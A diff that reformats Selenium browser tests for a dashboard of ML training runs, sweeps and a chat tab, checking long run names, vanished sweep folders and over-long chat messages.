     browser.save_screenshot(str(ARTIFACTS / "runs_long_names.png"))
     choose(browser, "run-open", f"multirun/2026-11-30/08-12-33/{LONG_JOB}")
-    command = wait_for(lambda: "pipeline=evaluate" in (t := text_of(browser, "run-evaluation")) and t,
-                       what="the suggested evaluate command")
+    command = wait_for(
+        lambda: "pipeline=evaluate" in (t := text_of(browser, "run-evaluation")) and t,
+        what="the suggested evaluate command",
+    )
     assert "\"run_dir='" in command and "'\"" in command, command  # quoted for the shell and for Hydra
     browser.set_window_size(1280, 1000)
 
@@ -882,11 +1053,14 @@ def test_runs_table_fits_long_names_and_says_utc(browser, app):
 def test_new_runs_and_sweeps_show_on_reload_and_a_gone_sweep_says_so(browser, app, outputs):
     from selenium.webdriver.common.by import By
 
-    shutil.copytree(outputs / "tiny" / "run1", outputs / "tiny" / "run3", ignore=shutil.ignore_patterns("checkpoints"))
+    shutil.copytree(
+        outputs / "tiny" / "run1", outputs / "tiny" / "run3", ignore=shutil.ignore_patterns("checkpoints")
+    )
     later = outputs / "multirun" / "later"
     shutil.copytree(outputs / "multirun" / "demo", later)
-    (later / "summary.md").write_text((later / "summary.md").read_text().replace("Sweep report: demo",
-                                                                                  "Sweep report: later"))
+    (later / "summary.md").write_text(
+        (later / "summary.md").read_text().replace("Sweep report: demo", "Sweep report: later")
+    )
     try:
         browser.get(app.url)  # a reload reads the folders again
         open_tab(browser, "Runs")
@@ -896,7 +1070,9 @@ def test_new_runs_and_sweeps_show_on_reload_and_a_gone_sweep_says_so(browser, ap
         shutil.rmtree(later)  # moved or deleted while the page shows it
         browser.get(app.url)
         open_tab(browser, "Sweeps")
-        wait_for(lambda: "Sweep report: demo" in text_of(browser, "sweep-summary"), what="the remaining sweep")
+        wait_for(
+            lambda: "Sweep report: demo" in text_of(browser, "sweep-summary"), what="the remaining sweep"
+        )
         assert not browser.find_elements(By.CSS_SELECTOR, ".toast-body")  # no error popup
         # gone between listing and opening: the message is on that sweep only
         shutil.copytree(outputs / "multirun" / "demo", later)
@@ -906,7 +1082,9 @@ def test_new_runs_and_sweeps_show_on_reload_and_a_gone_sweep_says_so(browser, ap
         choose(browser, "sweep-select", "multirun/demo")
         wait_for(lambda: "Sweep report: demo" in text_of(browser, "sweep-summary"), what="the demo sweep")
         choose(browser, "sweep-select", "multirun/later")
-        wait_for(lambda: "cannot be read" in text_of(browser, "sweep-summary"), what="the gone sweep's message")
+        wait_for(
+            lambda: "cannot be read" in text_of(browser, "sweep-summary"), what="the gone sweep's message"
+        )
         assert not browser.find_elements(By.CSS_SELECTOR, ".toast-body")
     finally:
         shutil.rmtree(later, ignore_errors=True)
@@ -920,9 +1098,14 @@ def test_a_message_too_long_is_not_sent_and_trimmed_turns_are_named(browser, app
     open_tab(browser, "Chat")
     set_max_new_tokens(browser, 1024)
     long = "word " * 1100  # more than the tiny model's 2048 tokens of context with 1024 new ones
-    box = wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#chat-input textarea"), what="the chat input")[0]
-    browser.execute_script("arguments[0].value = arguments[1]; "
-                           "arguments[0].dispatchEvent(new Event('input', {bubbles: true}))", box, long)
+    box = wait_for(
+        lambda: browser.find_elements(By.CSS_SELECTOR, "#chat-input textarea"), what="the chat input"
+    )[0]
+    browser.execute_script(
+        "arguments[0].value = arguments[1]; arguments[0].dispatchEvent(new Event('input', {bubbles: true}))",
+        box,
+        long,
+    )
     browser.find_element(By.ID, "chat-send").click()
     status = wait_for(lambda: "not sent" in (s := text_of(browser, "chat-status")) and s, what="the refusal")
     assert "context of 2048 tokens" in status and "max new tokens 1024" in status, status
@@ -930,8 +1113,12 @@ def test_a_message_too_long_is_not_sent_and_trimmed_turns_are_named(browser, app
 
     half = "word " * 500  # two of these with their answers do not fit: the first exchange is dropped
     for _ in range(2):
-        browser.execute_script("arguments[0].value = arguments[1]; "
-                               "arguments[0].dispatchEvent(new Event('input', {bubbles: true}))", box, half)
+        browser.execute_script(
+            "arguments[0].value = arguments[1]; "
+            "arguments[0].dispatchEvent(new Event('input', {bubbles: true}))",
+            box,
+            half,
+        )
         browser.find_element(By.ID, "chat-send").click()
         wait_for(lambda: "tokens/s" in text_of(browser, "chat-status"), 120, "the reply")
     status = text_of(browser, "chat-status")
